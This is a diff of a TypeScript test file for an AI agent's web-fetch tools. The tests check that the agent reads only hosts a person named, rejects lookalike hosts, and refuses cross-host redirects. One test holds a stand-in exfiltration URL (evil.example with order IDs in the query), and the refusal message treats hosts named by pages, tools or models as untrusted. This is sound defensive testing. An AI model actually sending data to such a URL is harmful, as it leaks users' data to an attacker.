@@ -1,38 +1,34 @@
 import { parseHere } from '../../../../platform/parsing/testing/parse-here';
-import type { TaskRun } from '../../../tasks';
 import type { PageReader } from '../sources';
-import { namedIn } from './named';
+import { contextOf } from '../testing/tool-context';
 import { ToolRefusal } from './tool';
 import { webTools } from './web-tools';
 
 const page = (html: string, url = 'https://shop.example/a'): PageReader & { reads: string[] } => {
   const reads: string[] = [];
-  // Leads on to `url`, if that may be visited, as the real one does.
-  const read: PageReader['read'] = (wanted, { mayVisit }) => {
+  const read: PageReader['read'] = (wanted) => {
     reads.push(wanted);
-    const why = mayVisit(new URL(url));
-    if (why !== null) return Promise.reject(new Error(why));
     return Promise.resolve({ url, status: 200, html, headers: { 'content-type': 'text/html' } });
   };
   return { reads, read };
 };
 const context = (instructions: string, hosts: string[] = []) => ({
-  run: {} as TaskRun,
-  key: '1',
-  named: namedIn(instructions, hosts),
+  ...contextOf(instructions, hosts),
   step: { signal: new AbortController().signal, log: () => undefined, progress: () => undefined, artifact: () => undefined },
 });
 const tool = (name: string, pages: PageReader) => webTools(pages, parseHere).find((one) => one.name === name)!;
 
 describe('what the person named', () => {
   it('should be hosts of links, hosts by themselves and addresses', () => {
-    const { hosts, addresses } = namedIn('Read https://www.Shop.example/a?b=1, then write to Ann@buyer.example.', ['other.example']);
+    const { hosts, addresses } = contextOf('Read https://www.Shop.example/a?b=1, then write to Ann@buyer.example.', [
+      'other.example',
+    ]).named;
     expect([...hosts]).toEqual(['shop.example', 'other.example']);
     expect([...addresses]).toEqual(['ann@buyer.example']);
   });
   it('should not hold a host that only looks like a named one', () => {
-    expect(namedIn('Read https://shop.example.evil.example/').hosts.has('shop.example')).toBe(false);
-    expect(namedIn('Read https://shop.example@evil.example/').hosts.has('shop.example')).toBe(false);
+    expect(contextOf('Read https://shop.example.evil.example/').named.hosts.has('shop.example')).toBe(false);
+    expect(contextOf('Read https://shop.example@evil.example/').named.hosts.has('shop.example')).toBe(false);
   });
 });
 
@@ -50,10 +46,14 @@ describe('http.fetch', () => {
   it('should not call a host that nobody named, so that nothing is carried out in its address', async () => {
     const pages = page('');
     const call = tool('http.fetch', pages).call({ url: 'https://evil.example/?orders=1,2,3' }, context('Read https://shop.example'));
-    await expect(call).rejects.toThrow(new ToolRefusal('evil.example is not read: the instructions name shop.example.'));
+    await expect(call).rejects.toThrow(
+      new ToolRefusal(
+        'evil.example is not read: what its author or a person wrote names shop.example. It came from a page, a tool or a model, and these name nothing.',
+      ),
+    );
     expect(pages.reads).toEqual([]);
   });
-  it('should not let a redirect lead to a host that nobody named', async () => {
+  it('should not hand over what a redirect to another host brought', async () => {
     const pages = page('<p>Secret</p>', 'https://evil.example/');
     await expect(tool('http.fetch', pages).call({ url: 'https://shop.example/a' }, context('Read https://shop.example'))).rejects.toThrow(
       'evil.example',
